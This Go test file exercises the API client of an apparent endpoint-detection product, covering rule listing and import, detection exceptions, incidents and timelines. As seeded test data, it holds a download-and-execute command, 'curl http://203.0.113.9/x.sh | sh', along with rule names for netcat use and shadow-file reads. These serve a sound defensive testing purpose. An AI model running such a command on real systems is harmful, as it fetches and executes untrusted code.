package apiclient_test

import (
	"context"
	"errors"
	"io/fs"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/internal/apiclient"
	"github.com/vigilsec/vigil/internal/apiclient/apiclienttest"
	"github.com/vigilsec/vigil/internal/center/api/apitest"
	"github.com/vigilsec/vigil/internal/center/api/apitypes"
	"github.com/vigilsec/vigil/internal/center/incident"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/store"
)

// lineOf is the line of text that holds s, from 1.
func lineOf(text, s string) int { return strings.Count(text[:strings.Index(text, s)], "\n") + 1 }

// lastRequest is the request line of the env's latest request.
func lastRequest(env *apiclienttest.Env) string {
	reqs := env.Requests()
	return reqs[len(reqs)-1]
}

func TestRuleRoutes(t *testing.T) {
	c, env := seeded(t)
	ctx := context.Background()

	off := false
	page, err := c.Rules(ctx, apiclient.RuleFilter{Technique: "T1110", Disabled: &off, Page: store.Page{Limit: 5}})
	if err != nil || len(page.Items) != 2 || page.Items[0].ID != apitest.RuleSSHFailed || page.Items[1].Kind != "correlation" {
		t.Fatalf("Rules = %+v, %v", page, err)
	}
	if want := "GET /api/v1/rules?disabled=false&limit=5&technique=T1110"; lastRequest(env) != want {
		t.Errorf("request %q, want %q", lastRequest(env), want)
	}
	r, err := c.Rule(ctx, apitest.RuleCurlPipe)
	if err != nil || r.Title != "Download piped to a shell" || r.Severity != store.SeverityHigh || !cmp.Equal(r.Techniques, []string{"T1059.004", "T1105"}) {
		t.Fatalf("Rule = %+v, %v", r, err)
	}
	src, err := c.RuleSource(ctx, apitest.RuleCurlPipe)
	want, _ := fs.ReadFile(apitest.RulePack(), "linux/proc_creation_curl_pipe_shell.yml")
	if err != nil || string(src) != string(want) {
		t.Fatalf("RuleSource = %q, %v", src, err)
	}
	if _, err := c.RuleSource(ctx, "nope"); !apiclient.IsStatus(err, 404) {
		t.Errorf("RuleSource(nope): %v", err)
	}
	problems, err := c.RuleProblems(ctx, store.Page{})
	if err != nil || len(problems.Items) != 1 || problems.Items[0].RuleID != apitest.RuleShadowRead {
		t.Fatalf("RuleProblems = %+v, %v", problems, err)
	}

	r, err = c.SetRuleSetting(ctx, apitest.RuleToolPort, apitypes.RuleSetting{Disabled: true, Severity: store.SeverityLow})
	if err != nil || !r.Disabled || r.Severity != store.SeverityLow || r.Setting == nil || r.Setting.Author != "token:admin" {
		t.Fatalf("SetRuleSetting = %+v, %v", r, err)
	}
	if err := c.ResetRule(ctx, apitest.RuleToolPort); err != nil {
		t.Fatal(err)
	}
	if err := c.ResetRule(ctx, apitest.RuleToolPort); !apiclient.IsStatus(err, 404) {
		t.Errorf("second ResetRule: %v", err)
	}

	// A file with a problem refuses the whole import, and says why.
	bad := strings.Replace(apitest.NetcatRule, "Image|endswith", "Image|sometimes", 1)
	_, err = c.ImportRules(ctx, []apitypes.ImportFile{{Name: "custom/bad.yml", Content: bad}, {Name: "custom/nc.yml", Content: apitest.NetcatRule}}, false)
	var refused *apiclient.ImportError
	if !errors.As(err, &refused) || !apiclient.IsStatus(err, 422) || len(refused.Problems) != 1 ||
		refused.Problems[0].File != "custom/bad.yml" || refused.Problems[0].Line != lineOf(bad, "Image|sometimes") || refused.Code != "unprocessable" {
		t.Fatalf("refused import: %v (%+v)", err, refused)
	}
	res, err := c.ImportRules(ctx, []apitypes.ImportFile{{Name: "custom/bad.yml", Content: bad}, {Name: "custom/nc.yml", Content: apitest.NetcatRule}}, true)
	if err != nil || len(res.Stored) != 1 || res.Stored[0].Name != "custom/nc.yml" || res.Stored[0].Rules != 1 ||
		!cmp.Equal(res.Skipped, []string{"custom/bad.yml"}) || len(res.Problems) != 1 {
		t.Fatalf("forced import = %+v, %v", res, err)
	}
	files, err := c.RuleFiles(ctx, store.Page{})
	if err != nil || len(files.Items) != 1 || files.Items[0].Name != "custom/nc.yml" || files.Items[0].Author != "token:admin" {
		t.Fatalf("RuleFiles = %+v, %v", files, err)
	}
	if err := c.DeleteRuleFile(ctx, "custom/nc.yml"); err != nil {
		t.Fatal(err)
	}
	if want := "DELETE /api/v1/rule-files/custom/nc.yml"; lastRequest(env) != want {
		t.Errorf("request %q, want %q", lastRequest(env), want)
	}
	if err := c.DeleteRuleFile(ctx, "custom/nc.yml"); !apiclient.IsStatus(err, 404) {
		t.Errorf("second DeleteRuleFile: %v", err)
	}

	if _, _, err := env.Store.Alerts().Raise(ctx, store.Alert{ID: "al1", AgentID: "a1", RuleID: apitest.RuleCurlPipe, Title: "x",
		Severity: store.SeverityHigh, Techniques: []string{"T1105"}, DedupKey: "al1", CreatedAt: t0.Add(-time.Hour)}); err != nil {
		t.Fatal(err)
	}
	cov, err := c.AttackCoverage(ctx, t0.Add(-2*time.Hour))
	if err != nil || cov.Alerts != 1 || cov.Rules != 4 || !cov.Since.Equal(t0.Add(-2*time.Hour)) || len(cov.Columns) != 14 {
		t.Fatalf("AttackCoverage = %d alerts, %d rules, since %s, %v", cov.Alerts, cov.Rules, cov.Since, err)
	}
	if want := "GET /api/v1/attack/coverage?since=2025-03-04T08%3A00%3A00Z"; lastRequest(env) != want {
		t.Errorf("request %q, want %q", lastRequest(env), want)
	}
}

func TestExceptionRoutes(t *testing.T) {
	c, env := seeded(t)
	ctx := context.Background()
	expires := t0.Add(48 * time.Hour)
	e, err := c.CreateException(ctx, apitypes.Exception{
		RuleID: apitest.RuleCurlPipe, AgentID: "a1", Match: map[string][]string{"process.parent.executable": {"/usr/bin/apt*"}},
		Reason: "package installs", ExpiresAt: &expires,
	})
	if err != nil || e.ID == "" || e.Author != "token:admin" || !e.ExpiresAt.Equal(expires) {
		t.Fatalf("CreateException = %+v, %v", e, err)
	}
	if _, err := c.CreateException(ctx, apitypes.Exception{Reason: "everything"}); !apiclient.IsStatus(err, 400) {
		t.Errorf("exception of every event: %v", err)
	}
	list, err := c.Exceptions(ctx, apiclient.ExceptionFilter{RuleID: apitest.RuleCurlPipe, AgentID: "a1", Active: true})
	if err != nil || len(list.Items) != 1 || list.Items[0].ID != e.ID {
		t.Fatalf("Exceptions = %+v, %v", list, err)
	}
	if want := "GET /api/v1/exceptions?active=true&agent_id=a1&rule_id=" + apitest.RuleCurlPipe; lastRequest(env) != want {
		t.Errorf("request %q, want %q", lastRequest(env), want)
	}
	e, err = c.UpdateException(ctx, e.ID, apitypes.Exception{AgentID: "a1", Reason: "lab host"})
	if err != nil || e.RuleID != "" || len(e.Match) != 0 || !e.ExpiresAt.IsZero() || e.Reason != "lab host" {
		t.Fatalf("UpdateException = %+v, %v", e, err)
	}
	if got, err := c.Exception(ctx, e.ID); err != nil || got.Reason != "lab host" {
		t.Fatalf("Exception = %+v, %v", got, err)
	}
	if err := c.DeleteException(ctx, e.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exception(ctx, e.ID); !apiclient.IsStatus(err, 404) {
		t.Errorf("Exception after delete: %v", err)
	}
}

func TestIncidentRoutes(t *testing.T) {
	c, env := seeded(t)
	ctx := context.Background()
	ev := event.New("e1", t0.Add(-10*time.Minute), "process", "exec")
	ev.Set(event.FieldAgentID, "a1")
	ev.Set("process.entity_id", "a1-p1")
	ev.Set("process.command_line", "curl http://203.0.113.9/x.sh | sh")
	if _, err := env.Store.Events().Insert(ctx, []event.Event{ev}); err != nil {
		t.Fatal(err)
	}
	if _, _, err := env.Store.Alerts().Raise(ctx, store.Alert{ID: "al1", AgentID: "a1", Hostname: "web-1", RuleID: apitest.RuleCurlPipe,
		Title: "Download piped to a shell", Severity: store.SeverityHigh, State: store.AlertNew, Techniques: []string{"T1059.004"},
		DedupKey: "al1", Count: 1, CreatedAt: ev.Timestamp(), LastSeen: ev.Timestamp(), EventIDs: []string{"e1"}}); err != nil {
		t.Fatal(err)
	}
	inc, _, err := env.Store.Incidents().Attach(ctx, store.Join{AlertID: "al1", Entities: incident.Entities("a1", ev), At: ev.Timestamp()})
	if err != nil {
		t.Fatal(err)
	}

	list, err := c.Incidents(ctx, store.IncidentFilter{State: store.IncidentOpen, Severity: store.SeverityHigh, AgentID: "a1"})
	if err != nil || len(list.Items) != 1 || list.Items[0].ID != inc.ID {
		t.Fatalf("Incidents = %+v, %v", list, err)
	}
	if want := "GET /api/v1/incidents?agent_id=a1&severity=high&state=open"; lastRequest(env) != want {
		t.Errorf("request %q, want %q", lastRequest(env), want)
	}
	got, err := c.SetIncidentState(ctx, inc.ID, apitypes.IncidentState{State: store.IncidentInvestigating, Assignee: "alice", Comment: "on it"})
	if err != nil || got.State != store.IncidentInvestigating || got.Assignee != "alice" || len(got.Comments) != 1 {
		t.Fatalf("SetIncidentState = %+v, %v", got, err)
	}
	if _, err := c.SetIncidentState(ctx, inc.ID, apitypes.IncidentState{State: store.IncidentInvestigating}); !apiclient.IsStatus(err, 409) {
		t.Errorf("no move: %v", err)
	}
	if got, err = c.Incident(ctx, inc.ID); err != nil || got.Comments[0].Author != "token:admin" {
		t.Fatalf("Incident = %+v, %v", got, err)
	}
	alerts, err := c.IncidentAlerts(ctx, inc.ID, store.Page{Limit: 10})
	if err != nil || len(alerts.Items) != 1 || alerts.Items[0].IncidentID != inc.ID {
		t.Fatalf("IncidentAlerts = %+v, %v", alerts, err)
	}
	if alerts, err = c.Alerts(ctx, store.AlertFilter{IncidentID: inc.ID}); err != nil || len(alerts.Items) != 1 {
		t.Fatalf("Alerts of the incident = %+v, %v", alerts, err)
	}
	tl, err := c.IncidentTimeline(ctx, inc.ID, time.Hour, 90*time.Minute)
	if err != nil || len(tl.Entries) != 1 || tl.Entries[0].EventID != "e1" || !tl.Since.Equal(ev.Timestamp().Add(-time.Hour)) ||
		tl.Entries[0].Event.String("process.command_line") != "curl http://203.0.113.9/x.sh | sh" {
		t.Fatalf("IncidentTimeline = %+v, %v", tl, err)
	}
	if want := "GET /api/v1/incidents/" + inc.ID + "/timeline?after=1h30m0s&before=1h0m0s"; lastRequest(env) != want {
		t.Errorf("request %q, want %q", lastRequest(env), want)
	}
	if _, err := c.IncidentTimeline(ctx, inc.ID, 48*time.Hour, 0); !apiclient.IsStatus(err, 400) {
		t.Errorf("timeline of 48h: %v", err)
	}
}

func TestDetectionEmptyIDsAreRefused(t *testing.T) {
	env := apiclienttest.Start(t)
	c := client(t, env, env.AdminToken)
	ctx := context.Background()
	for name, call := range map[string]func() error{
		"rule":             func() error { _, err := c.Rule(ctx, ""); return err },
		"rule source":      func() error { _, err := c.RuleSource(ctx, ""); return err },
		"rule setting":     func() error { _, err := c.SetRuleSetting(ctx, "", apitypes.RuleSetting{}); return err },
		"reset rule":       func() error { return c.ResetRule(ctx, "") },
		"delete rule file": func() error { return c.DeleteRuleFile(ctx, "") },
		"exception":        func() error { _, err := c.Exception(ctx, ""); return err },
		"update exception": func() error { _, err := c.UpdateException(ctx, "", apitypes.Exception{}); return err },
		"delete exception": func() error { return c.DeleteException(ctx, "") },
		"incident":         func() error { _, err := c.Incident(ctx, ""); return err },
		"incident state":   func() error { _, err := c.SetIncidentState(ctx, "", apitypes.IncidentState{}); return err },
		"incident alerts":  func() error { _, err := c.IncidentAlerts(ctx, "", store.Page{}); return err },
		"timeline":         func() error { _, err := c.IncidentTimeline(ctx, "", 0, 0); return err },
	} {
		if err := call(); err == nil || !strings.Contains(err.Error(), "is empty") {
			t.Errorf("%s: %v", name, err)
		}
	}
	if n := len(env.Requests()); n != 0 {
		t.Errorf("%d requests sent for empty ids", n)
	}
}
